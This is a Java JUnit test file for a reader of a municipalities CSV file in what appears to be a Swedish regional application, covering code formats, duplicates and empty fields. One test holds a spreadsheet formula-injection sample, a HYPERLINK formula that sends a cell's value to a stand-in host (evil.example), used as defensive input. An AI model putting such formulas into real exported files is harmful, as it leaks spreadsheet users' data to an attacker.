package se.regionorebrolan.tillaggsbelopp.input;

import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import se.regionorebrolan.tillaggsbelopp.calculation.Municipality;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * municipalities.csv (spec §6): four-digit codes, unique, with a name and a central town.
 */
class MunicipalitiesCsvTests {

	@TempDir
	Path folder;

	private final InputProblems problems = new InputProblems();

	@Test
	void readsTheExampleMunicipalities() {
		InputFile<Municipality> file = read(ExampleInputFolder.MUNICIPALITIES);

		assertThat(file.name()).isEqualTo("municipalities.csv");
		assertThat(file.values()).containsExactly(new Municipality("9001", "Alfa", "Alfaby"),
				new Municipality("9002", "Beta", "Betaby"), new Municipality("9003", "Gamma", "Gammaby"),
				new Municipality("9004", "Delta", "Deltaby"));
		assertThat(file.rows()).extracting(InputRow::line).containsExactly(2, 3, 4, 5);
		assertThat(problems()).isEmpty();
	}

	@Test
	void keepsTheLeadingZeroOfACode() {
		InputFile<Municipality> file = read("""
				municipality_code,municipality_name,central_town
				0114,Upplands Väsby,Upplands Väsby
				""");

		assertThat(file.values()).containsExactly(new Municipality("0114", "Upplands Väsby", "Upplands Väsby"));
		assertThat(problems()).isEmpty();
	}

	@Test
	void readsATextThatAFormulaGuardProtectsWithoutTheGuard() {
		InputFile<Municipality> file = read("""
				municipality_code,municipality_name,central_town,source
				9001,"'=HYPERLINK(""http://evil.example/?x=""&B2,""Klicka"")",'-2+3,"'@SUM(1+1)"
				9002,'Beta',''+cmd,'citat'
				""");

		assertThat(file.values()).containsExactly(
				new Municipality("9001", "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")", "-2+3"),
				new Municipality("9002", "'Beta'", "'+cmd"));
		assertThat(file.rows()).extracting(InputRow::source).containsExactly("@SUM(1+1)", "'citat'");
		assertThat(problems()).isEmpty();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					123       | municipalities.csv rad 6, kolumn municipality_code: värdet "123" – förväntat en kommunkod med fyra siffror, t.ex. 1880       | three digits (a lost leading zero)
					12345     | municipalities.csv rad 6, kolumn municipality_code: värdet "12345" – förväntat en kommunkod med fyra siffror, t.ex. 1880     | five digits
					abcd      | municipalities.csv rad 6, kolumn municipality_code: värdet "abcd" – förväntat en kommunkod med fyra siffror, t.ex. 1880      | letters
					90 05     | municipalities.csv rad 6, kolumn municipality_code: värdet "90 05" – förväntat en kommunkod med fyra siffror, t.ex. 1880     | a space inside
					9005.0    | municipalities.csv rad 6, kolumn municipality_code: värdet "9005.0" – förväntat en kommunkod med fyra siffror, t.ex. 1880    | saved as a number with decimals
					''        | municipalities.csv rad 6, kolumn municipality_code: värde saknas – förväntat en kommunkod med fyra siffror, t.ex. 1880        | empty
					""")
	void refusesACodeThatIsNotFourDigits(String code, String expected, String why) {
		read(ExampleInputFolder.MUNICIPALITIES + code + ",Epsilon,Epsilonby\n");

		assertThat(problems()).as(why).containsExactly(expected);
	}

	@Test
	void refusesASecondRowWithTheSameCodeAndKeepsTheFirst() {
		InputFile<Municipality> file = read(ExampleInputFolder.MUNICIPALITIES + "9001,Alfa igen,Alfaby\n");

		assertThat(problems()).containsExactly(
				"municipalities.csv rad 6: samma nyckel som rad 2; varje kommunkod får bara finnas en gång");
		assertThat(file.values()).extracting(Municipality::name).containsExactly("Alfa", "Beta", "Gamma", "Delta");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					9005,,Epsilonby       | municipalities.csv rad 6, kolumn municipality_name: värde saknas – förväntat en text | no name
					9005,   ,Epsilonby    | municipalities.csv rad 6, kolumn municipality_name: värde saknas – förväntat en text | only spaces count as empty
					9005,Epsilon,         | municipalities.csv rad 6, kolumn central_town: värde saknas – förväntat en text      | no central town
					""")
	void refusesAnEmptyNameOrCentralTown(String row, String expected, String why) {
		InputFile<Municipality> file = read(ExampleInputFolder.MUNICIPALITIES + row + "\n");

		assertThat(problems()).as(why).containsExactly(expected);
		assertThat(file.values()).as(why).hasSize(4);
	}

	@Test
	void reportsEveryBadFieldOfARowInColumnOrder() {
		read(ExampleInputFolder.MUNICIPALITIES + "12,,\n");

		assertThat(problems()).containsExactly(
				"municipalities.csv rad 6, kolumn municipality_code: värdet \"12\" – förväntat en kommunkod med fyra siffror, t.ex. 1880",
				"municipalities.csv rad 6, kolumn municipality_name: värde saknas – förväntat en text",
				"municipalities.csv rad 6, kolumn central_town: värde saknas – förväntat en text");
	}

	private InputFile<Municipality> read(String content) {
		ExampleInputFolder.writeString(this.folder.resolve("municipalities.csv"), content);
		return MunicipalitiesCsv.read(Tables.folder(this.folder), this.problems).file();
	}

	private List<String> problems() {
		return ExampleInputFolder.texts(this.problems);
	}

}
